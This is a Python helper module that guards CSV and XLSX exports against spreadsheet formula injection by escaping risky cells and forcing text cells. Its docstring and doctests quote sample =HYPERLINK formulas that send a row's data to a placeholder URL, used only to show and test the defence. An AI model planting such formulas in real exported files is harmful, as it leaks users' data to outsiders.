"""Cells no spreadsheet runs as a formula: the one helper every CSV and XLSX writer uses.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or TAB, CR) is taken by Excel and LibreOffice
as a formula when a CSV file is opened: ``=HYPERLINK("http://…?leak="&B2, "подробнее")`` sends
the row to whoever wrote it. In CSV such a cell gets a leading apostrophe (the usual
neutralisation), and so does a cell that already starts with one, so that
:func:`unescape_csv_cell` — which the dataset loader applies to every CSV cell — gives back
exactly what was written: ``export`` → ``load`` round-trips. Plain numbers (``-12.5``) are
left as they are: a spreadsheet reads them as numbers, never as formulas.

In XLSX a text is written as a text cell (openpyxl would otherwise turn a string starting with
``=`` into a formula, and ``#N/A`` into an error); characters XML cannot hold are written as
visible escapes (``\\x1b``) instead of failing the whole file.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

__all__ = ["FORMULA_STARTS", "escape_csv_cell", "unescape_csv_cell", "xlsx_row"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What makes a spreadsheet read a CSV cell as a formula."""
_QUOTE = "'"
_NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
# What XML 1.0 cannot hold (openpyxl refuses these with IllegalCharacterError).
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def escape_csv_cell(text: str) -> str:
    """A CSV cell no spreadsheet runs; :func:`unescape_csv_cell` undoes it exactly.

    >>> escape_csv_cell('=HYPERLINK("http://x?d="&B2)')
    '\\'=HYPERLINK("http://x?d="&B2)'
    >>> escape_csv_cell("+7 911"), escape_csv_cell("'quoted"), escape_csv_cell("-12.5")
    ("'+7 911", "''quoted", '-12.5')
    >>> escape_csv_cell("Иванова")
    'Иванова'
    """
    if text.startswith(_QUOTE) or (text.startswith(FORMULA_STARTS) and not _NUMBER.match(text)):
        return _QUOTE + text
    return text


def unescape_csv_cell(text: str) -> str:
    """The value a CSV cell written by :func:`escape_csv_cell` holds.

    A leading apostrophe is a spreadsheet's "this is text" mark, not part of the value (write two
    for a value that starts with one).

    >>> all(unescape_csv_cell(escape_csv_cell(v)) == v
    ...     for v in ["=1+1", "+7 911", "-", "@x", "'quoted", "''", "-12.5", "текст", ""])
    True
    """
    return text[1:] if text.startswith(_QUOTE) else text


def xlsx_row(ws: Any, values: Iterable[Any]) -> list[Any]:
    """A row for ``ws.append`` (ordinary or write-only sheet) in which every text is a text cell.

    >>> from openpyxl import Workbook
    >>> wb = Workbook(); ws = wb.active
    >>> ws.append(xlsx_row(ws, ["=1+1", "#N/A", 3, None]))
    >>> [(c.value, c.data_type) for c in ws[1]]
    [('=1+1', 's'), ('#N/A', 's'), (3, 'n'), (None, 'n')]
    """
    from openpyxl.cell import WriteOnlyCell

    row: list[Any] = []
    for value in values:
        if isinstance(value, str):
            cell = WriteOnlyCell(ws, _xml_safe(value))
            cell.data_type = "s"
            row.append(cell)
        else:
            row.append(value)
    return row


def _xml_safe(text: str) -> str:
    return _NOT_XML.sub(lambda m: m.group().encode("unicode_escape", "backslashreplace")
                        .decode("ascii"), text)
